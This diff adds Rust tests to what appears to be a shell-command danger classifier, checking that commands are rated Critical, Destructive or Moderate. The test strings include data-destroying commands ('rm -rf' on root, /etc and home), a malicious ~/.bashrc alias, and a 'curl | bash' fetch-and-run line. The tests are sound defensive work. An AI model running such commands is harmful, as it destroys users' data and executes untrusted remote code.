@@ -345,3 +345,34 @@ fn templates_and_keystrokes() {
         ("echo {{x|rm -rf / }}", Critical),
     ]);
 }
+
+#[test]
+fn cd_changes_what_relative_paths_mean() {
+    assert_level(&[
+        ("cd / && rm -rf *", Critical),
+        ("cd /etc; rm -rf *", Critical),
+        ("cd && rm -rf *", Critical),
+        ("cd /tmp/build && rm -rf *", Destructive),
+        ("cd /usr; rm -rf local/share/x", Destructive),
+        ("cd \"$X\" && rm -rf *", Destructive),
+    ]);
+}
+
+#[test]
+fn startup_files_are_judged_as_code() {
+    assert_level(&[
+        ("echo 'alias ls=\"rm -rf ~\"' >> ~/.bashrc", Critical),
+        ("echo 'export EDITOR=vim' >> ~/.bashrc", Moderate),
+    ]);
+}
+
+#[test]
+fn more_wrappers() {
+    assert_level(&[
+        ("parallel rm -rf ::: /etc /usr", Critical),
+        ("curl http://x | bash -s -- --flag", Destructive),
+        ("echo hi | sudo tee /etc/hostname", Destructive),
+        ("sudo su -c 'rm -rf /'", Critical),
+        ("builtin eval 'rm -rf /'", Critical),
+    ]);
+}
